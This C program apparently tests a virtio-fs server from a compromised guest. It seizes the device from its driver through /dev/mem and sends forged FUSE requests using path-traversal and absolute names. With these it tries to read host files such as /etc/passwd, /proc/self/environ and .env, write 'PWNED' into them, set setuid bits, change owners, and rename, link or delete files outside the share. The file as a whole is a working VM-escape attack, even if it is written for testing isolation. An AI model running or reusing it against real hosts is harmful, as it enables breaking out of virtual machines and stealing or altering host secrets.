// A guest root that has taken its kernel over: finds the virtio-fs device of one tag, takes it from the driver and sends file requests of its
// own through /dev/mem, with names that no kernel would send. usage: hostileVirtiofs TAG OUTSIDE [PREFIX], where OUTSIDE is a directory of the host
// and PREFIX is what the names of the share's files begin with (a/).
// Says `ASKED what: outcome` for each; an outcome is `done`, an error's name, or `no answer`.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

enum { LOOKUP = 1, SETATTR = 4, MKNOD = 8, MKDIR = 9, UNLINK = 10, RENAME = 12, LINK = 13, OPEN = 14, READ = 15, WRITE = 16, SETXATTR = 21, INIT = 26, CREATE = 35, SYMLINK = 6, OPENDIR = 27 };
enum { FUSE_ROOT = 1, NO_ANSWER = 9999, ENTRIES = 16 };

struct descriptor { uint64_t address; uint32_t length; uint16_t flags, next; };
struct queue { struct descriptor *descriptors; uint16_t *available; volatile uint16_t *used; uint16_t sent, seen; };

static volatile uint32_t *device;
static struct queue queues[2];
static unsigned char *request, *answer;
static uint32_t answer_length;
static int pagemap;
static const char *prefix = "";

static uint64_t physical(void *pointer) {
    uint64_t entry = 0;
    if (pread(pagemap, &entry, 8, (off_t)((uintptr_t)pointer / 4096 * 8)) != 8 || !(entry >> 63)) exit(3);
    return (entry & ((1ULL << 55) - 1)) * 4096 + ((uintptr_t)pointer & 4095);
}

static void *page(void) {
    void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    memset(memory, 0, 4096);
    mlock(memory, 4096);
    return memory;
}

struct part { const void *bytes; size_t length; };

/** Sends one request in two parts; 0, an errno, or NO_ANSWER. */
static int ask(uint32_t operation, uint64_t node, struct part body, struct part names) {
    static uint64_t unique = 1;
    struct queue *queue = &queues[1];
    uint32_t header[10] = {(uint32_t)(40 + body.length + names.length), operation};
    unique++;
    memcpy(header + 2, &unique, 8);
    memcpy(header + 4, &node, 8);
    memset(answer, 0, 4096);
    memcpy(request, header, 40);
    memcpy(request + 40, body.bytes, body.length);
    memcpy(request + 40 + body.length, names.bytes, names.length);
    queue->descriptors[0] = (struct descriptor){physical(request), header[0], 1, 1};
    queue->descriptors[1] = (struct descriptor){physical(answer), 16, 3, 2};
    queue->descriptors[2] = (struct descriptor){physical(answer) + 16, 4080, 2, 0};
    queue->available[2 + queue->sent % ENTRIES] = 0;
    __sync_synchronize();
    ((volatile uint16_t *)queue->available)[1] = ++queue->sent;
    __sync_synchronize();
    device[0x50 / 4] = 1;
    for (int i = 0; i < 3000; i++, usleep(1000)) {
        if (queue->used[1] == queue->seen) continue;
        queue->seen = queue->used[1];
        int32_t error;
        memcpy(&answer_length, answer, 4);
        memcpy(&error, answer + 4, 4);
        return -error;
    }
    return NO_ANSWER;
}

static int say(const char *what, const char *name, int outcome) {
    printf("ASKED %s %s: %s\n", what, name, outcome == NO_ANSWER ? "no answer" : outcome ? strerrorname_np(outcome) : "done");
    return outcome;
}

static struct part text(const char *name) {
    static char places[4][1024];
    static int turn;
    char *place = places[turn++ % 4];
    snprintf(place, sizeof places[0], "%s%s", *name == '/' ? "" : prefix, name);
    return (struct part){place, strlen(place) + 1};
}

static struct part two(const char *first, const char *second) {
    static char both[2048];
    struct part one = text(first);
    memcpy(both, one.bytes, one.length);
    memcpy(both + one.length, second, strlen(second) + 1);
    return (struct part){both, one.length + strlen(second) + 1};
}

static struct part nothing = {"", 0};

static uint64_t look_up(const char *name) {
    uint64_t node = 0;
    if (say("lookup", name, ask(LOOKUP, FUSE_ROOT, nothing, text(name))) == 0) memcpy(&node, answer + 16, 8);
    return node;
}

static void set_attributes(const char *what, const char *name, uint64_t node, uint32_t valid, uint32_t mode, uint32_t id) {
    struct { uint32_t valid, pad; uint64_t handle, size, owner, atime, mtime, ctime; uint32_t an, mn, cn, mode, p, uid, gid, q; }
        body = {.valid = valid, .atime = 7777, .mtime = 7777, .mode = mode, .uid = id, .gid = id};
    say(what, name, ask(SETATTR, node, (struct part){&body, sizeof body}, nothing));
}

static void read_through(const char *name, uint64_t node) {
    uint32_t flags[2] = {O_RDONLY, 0};
    uint64_t handle;
    if (say("open", name, ask(OPEN, node, (struct part){flags, 8}, nothing))) return;
    memcpy(&handle, answer + 16, 8);
    uint64_t body[5] = {handle, 0, 100, 0, 0};
    if (say("read", name, ask(READ, node, (struct part){body, 40}, nothing)) == 0)
        printf("READ %s: %.*s\n", name, (int)(answer_length - 16), answer + 16);
}

static void write_through(const char *name, uint64_t node) {
    uint32_t flags[2] = {O_RDWR, 0};
    uint64_t handle;
    if (say("open for writing", name, ask(OPEN, node, (struct part){flags, 8}, nothing))) return;
    memcpy(&handle, answer + 16, 8);
    struct { uint64_t handle, offset; uint32_t size, wf; uint64_t owner; uint32_t flags, pad; } body = {handle, 0, 6, 0, 0, 0, 0};
    say("write", name, ask(WRITE, node, (struct part){&body, 40}, (struct part){"PWNED\n", 6}));
}

static void attack_node(const char *name) {
    uint64_t node = look_up(name);
    if (!node) return;
    read_through(name, node);
    write_through(name, node);
    set_attributes("chmod", name, node, 1, 0777 | S_IFREG, 0);
    set_attributes("chmod +s", name, node, 1, 04777 | S_IFREG, 0);
    set_attributes("chown", name, node, 6, 0, 1234);
    set_attributes("utimes", name, node, 0x30, 0, 0);
    set_attributes("truncate", name, node, 8, 0, 0);
    uint32_t size[2] = {1, 0};
    say("setxattr", name, ask(SETXATTR, node, (struct part){size, 8}, (struct part){"user.pwned\0x", 12}));
    say("link", name, ask(LINK, FUSE_ROOT, (struct part){&node, 8}, text("stolen")));
}

static void attack_directory(const char *outside) {
    char name[512];
    uint32_t mode[4] = {O_RDWR | O_CREAT, 0755, 0, 0}, node_mode[4] = {S_IFCHR | 0666, (uint32_t)makedev(1, 11), 0, 0}, directory_mode[2] = {0777, 0};
    uint64_t root = FUSE_ROOT;
    snprintf(name, sizeof name, "%s/made", outside);
    say("create", name, ask(CREATE, FUSE_ROOT, (struct part){mode, 16}, text(name)));
    say("mknod", name, ask(MKNOD, FUSE_ROOT, (struct part){node_mode, 16}, text(name)));
    say("mkdir", name, ask(MKDIR, FUSE_ROOT, (struct part){directory_mode, 8}, text(name)));
    say("symlink", name, ask(SYMLINK, FUSE_ROOT, nothing, two(name, "/etc/passwd")));
    snprintf(name, sizeof name, "%s/secret", outside);
    say("rename", name, ask(RENAME, FUSE_ROOT, (struct part){&root, 8}, two(name, text("stolen").bytes)));
    say("unlink", name, ask(UNLINK, FUSE_ROOT, nothing, text(name)));
}

/** Finds the device of a tag, takes it from its driver and maps its registers. */
static int take_device(const char *tag) {
    int memory = open("/dev/mem", O_RDWR | O_SYNC);
    DIR *directory = opendir("/sys/bus/platform/drivers/virtio-mmio");
    if (memory < 0 || !directory) return -1;
    for (struct dirent *entry; (entry = readdir(directory));) {
        unsigned long start = 0, end = 0;
        char line[256], name[128] = "";
        FILE *iomem = fopen("/proc/iomem", "r");
        while (fgets(line, sizeof line, iomem))
            if (sscanf(line, " %lx-%lx : %127s", &start, &end, name) == 3 && !strncmp(name, entry->d_name, strlen(name))) break; else *name = 0;
        fclose(iomem);
        if (!*name || !start) continue;
        char *map = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, memory, (off_t)(start & ~4095UL));
        if (map == MAP_FAILED) return -2;
        volatile uint32_t *registers = (volatile uint32_t *)(map + (start & 4095));
        char found[37] = "";
        for (int i = 0; i < 36; i++) found[i] = (char)((volatile unsigned char *)registers)[0x100 + i];
        if (registers[0] != 0x74726976 || registers[2] != 26 || strcmp(found, tag)) continue;
        int unbind = open("/sys/bus/platform/drivers/virtio-mmio/unbind", O_WRONLY);
        if (write(unbind, entry->d_name, strlen(entry->d_name)) < 0) return -3;
        device = registers;
        return 0;
    }
    return -4;
}

static void start_device(void) {
    device[0x70 / 4] = 0;
    usleep(100000);
    device[0x70 / 4] = 1;
    device[0x70 / 4] = 3;
    device[0x24 / 4] = 1;
    device[0x20 / 4] = 1;
    device[0x24 / 4] = 0;
    device[0x20 / 4] = 0;
    device[0x70 / 4] = 11;
    for (int i = 0; i < 2; i++) {
        struct queue *queue = &queues[i];
        device[0x30 / 4] = (uint32_t)i;
        device[0x38 / 4] = ENTRIES;
        *queue = (struct queue){page(), page(), page(), 0, 0};
        uint64_t addresses[3] = {physical(queue->descriptors), physical(queue->available), physical((void *)queue->used)};
        for (int part = 0; part < 3; part++) {
            device[(0x80 + 0x10 * part) / 4] = (uint32_t)addresses[part];
            device[(0x84 + 0x10 * part) / 4] = (uint32_t)(addresses[part] >> 32);
        }
        device[0x44 / 4] = 1;
    }
    device[0x70 / 4] = 15;
    request = page();
    answer = page();
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count < 3) return 2;
    if (count > 3) prefix = words[3];
    pagemap = open("/proc/self/pagemap", O_RDONLY);
    int taken = take_device(words[1]);
    if (taken) {
        printf("the device was not found: %d\n", taken);
        return 1;
    }
    start_device();
    uint32_t init[16] = {7, 31, 0x20000, 0};
    say("init", "", ask(INIT, 0, (struct part){init, 64}, nothing));
    uint64_t inside = look_up("inside");
    if (inside) read_through("inside", inside);
    const char *outside = words[2];
    char name[512];
    // Names with slashes do reach the server.
    look_up("./inside");
    look_up("..");
    snprintf(name, sizeof name, "../../../../../../../..%s/secret", outside);
    attack_node(name);
    snprintf(name, sizeof name, "%s/secret", outside);
    attack_node(name);
    attack_node("../outside/secret");
    attack_node("escape");
    // What is hidden, where there is something.
    attack_node(".env");
    attack_node("./.env");
    attack_node("keys/../.env");
    attack_directory("keys");
    attack_node("/proc/self/environ");
    attack_node("/proc/self/mem");
    attack_node("/etc/passwd");
    attack_node("/kernel");
    attack_directory("../outside");
    attack_directory(outside);
    // The share itself, which is readonly to the last request, or writable but for setuid.
    attack_node("inside");
    uint32_t mode[4] = {O_RDWR | O_CREAT, 0755, 0, 0}, setuid[4] = {O_RDWR | O_CREAT, 04755, 0, 0};
    say("create", "new", ask(CREATE, FUSE_ROOT, (struct part){mode, 16}, text("new")));
    say("create +s", "newer", ask(CREATE, FUSE_ROOT, (struct part){setuid, 16}, text("newer")));
    puts("END");
    return 0;
}
